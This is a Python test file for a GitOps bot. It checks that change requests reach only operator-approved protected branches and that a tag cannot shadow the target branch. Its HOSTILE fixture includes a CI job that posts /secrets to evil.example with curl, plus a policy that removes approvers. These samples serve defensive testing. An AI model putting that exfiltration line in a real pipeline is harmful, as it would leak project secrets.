"""The target branch is the operator's decision, not the requester's: a change may target only a
protected branch GITOPS_TARGET_BRANCHES allows (unset: the default branch), narrowed by the policy
file; the policy is read at the branch's head commit, never at a name a tag could shadow, and the
bot's branch starts from that commit. Attacks from the issue: a requester naming a branch that
holds its own CI file and policy, and a tag named like the target branch."""

from __future__ import annotations

from typing import Any

from sqlalchemy import select
from werkzeug.test import TestResponse

from bot.store.models import BINDINGS, OPERATIONS
from tests.workflow.harness import PROJECT, Bot

AUTH = {"Authorization": "Bearer api-token"}
#: An attacker's branch content: a CI file that would run with the project's secrets, and a
#: policy turning the queue off and asking for no approver.
HOSTILE = {
    ".gitlab-ci.yml": "steal:\n  script: [curl -d @/secrets https://evil.example]\n",
    ".gitops/bot.yml": "approvals: {approvers: []}\nmerge_queue: {enabled: false}\n",
}


def submit(bot: Bot, branch: str, path: str = "config/prod.yaml") -> TestResponse:
    """POST /api/v1/changes writing `path` on `branch`."""
    body: dict[str, Any] = {
        "subject_id": f"svc-{branch}",
        "target_key": path,
        "project": PROJECT,
        "target_branch": branch,
        "title": "Scale",
        "requested_by": "alice",
        "files": [{"path": path, "content": "replicas: 2\n"}],
    }
    return bot.client.post("/api/v1/changes", json=body, headers=AUTH)


def recorded(bot: Bot) -> int:
    """How many operations the bot recorded."""
    with bot.services.engine.connect() as conn:
        return len(conn.execute(select(OPERATIONS.c.id)).all()) + len(
            conn.execute(select(BINDINGS.c.id)).all()
        )


def bot_branches(bot: Bot) -> list[str]:
    """The branches the bot made."""
    return [b for b in bot.gitlab.project(PROJECT).branches if b.startswith("gitops/")]


def test_a_branch_with_its_own_ci_and_policy_is_refused(bot: Bot) -> None:
    """A Developer's unprotected branch holding a CI file and a loosening policy, named as the
    target: 422 naming the rule, nothing recorded, no branch of the bot's, nothing run."""
    bot.gitlab.push(PROJECT, "attack", HOSTILE)
    pipelines = len(bot.gitlab.project(PROJECT).pipelines)
    answer = submit(bot, "attack")
    assert answer.status_code == 422
    body = answer.get_json()
    assert (body["error"], body["field"]) == ("target_branch_not_allowed", "target_branch")
    assert "not a protected branch" in body["detail"]
    bot.settle()
    assert recorded(bot) == 0
    assert bot_branches(bot) == []
    assert len(bot.gitlab.project(PROJECT).pipelines) == pipelines


def test_a_protected_branch_the_operator_did_not_list_is_refused(bot: Bot) -> None:
    """GITOPS_TARGET_BRANCHES unset: a protected release branch is still not a target."""
    bot.gitlab.push(PROJECT, "release/1", {"config/prod.yaml": "replicas: 1\n"})
    bot.gitlab.protect_branch(PROJECT, "release/*")
    answer = submit(bot, "release/1")
    assert (answer.status_code, answer.get_json()["error"]) == (422, "target_branch_not_allowed")
    assert "default branch" in answer.get_json()["detail"]


def test_a_branch_that_does_not_exist_is_said_so(bot: Bot) -> None:
    """A typo in the target branch: 422 `target_branch_not_found`, nothing recorded."""
    answer = submit(bot, "mian")
    assert (answer.status_code, answer.get_json()["error"]) == (422, "target_branch_not_found")
    assert recorded(bot) == 0


def test_listed_protected_branches_are_targets_and_the_policy_only_narrows(
    make_bot: Any,
) -> None:
    """With GITOPS_TARGET_BRANCHES=main,release/*: a protected release branch is a target, until
    the policy file on it lists only main; an unprotected branch matching the list is not."""
    bot = make_bot(target_branches=("main", "release/*"))
    bot.gitlab.push(PROJECT, "release/1", {"config/prod.yaml": "replicas: 1\n"})
    bot.gitlab.protect_branch(PROJECT, "release/*")
    assert submit(bot, "release/1").status_code == 202
    bot.gitlab.push(PROJECT, "release/2", {".gitops/bot.yml": "target_branches: [main]\n"})
    narrowed = submit(bot, "release/2")
    assert narrowed.status_code == 422
    assert "policy file" in narrowed.get_json()["detail"]
    bot.gitlab.push(PROJECT, "release-x", {"config/prod.yaml": "x: 1\n"})
    assert submit(bot, "release-x").status_code == 422


def test_a_tag_named_like_the_target_does_not_shadow_it(bot: Bot) -> None:
    """A tag `main` on an attacker's commit (its CI file and a loosening policy): the change is
    accepted under main's own (empty) policy, records main's head, and the bot's branch starts
    from main's head commit, so nothing of the tagged commit ever reaches a bot branch."""
    evil = bot.gitlab.push(PROJECT, "attack", HOSTILE)
    bot.gitlab.add_tag(PROJECT, "main", evil)
    head = bot.gitlab.project(PROJECT).branches["main"]
    answer = submit(bot, "main")
    assert answer.status_code == 202, answer.get_json()
    op_id = answer.get_json()["operation_id"]
    with bot.services.engine.connect() as conn:
        sha, policy = conn.execute(
            select(OPERATIONS.c.policy_sha, OPERATIONS.c.policy).where(OPERATIONS.c.id == op_id)
        ).one()
    assert (sha, policy) == (head, None)
    bot.settle()
    bot.approve(op_id)
    bot.settle()
    [branch] = bot_branches(bot)
    commit = bot.gitlab.state.commits[bot.gitlab.project(PROJECT).branches[branch]]
    assert commit.parents == (head,)
    assert ".gitlab-ci.yml" not in commit.tree


def test_a_project_that_does_not_exist_is_never_remembered(bot: Bot) -> None:
    """A request naming a project GitLab does not show: 422 `project_not_found`, nothing
    recorded (so no hooks check ever looks at it)."""
    body = {
        "subject_id": "svc",
        "target_key": "x",
        "project": "nobody/nothing",
        "target_branch": "main",
        "title": "t",
        "requested_by": "alice",
        "files": [{"path": "config/x.yaml", "content": "a: 1\n"}],
    }
    answer = bot.client.post("/api/v1/changes", json=body, headers=AUTH)
    assert (answer.status_code, answer.get_json()["error"]) == (422, "project_not_found")
    assert answer.get_json()["field"] == "project"
    assert recorded(bot) == 0
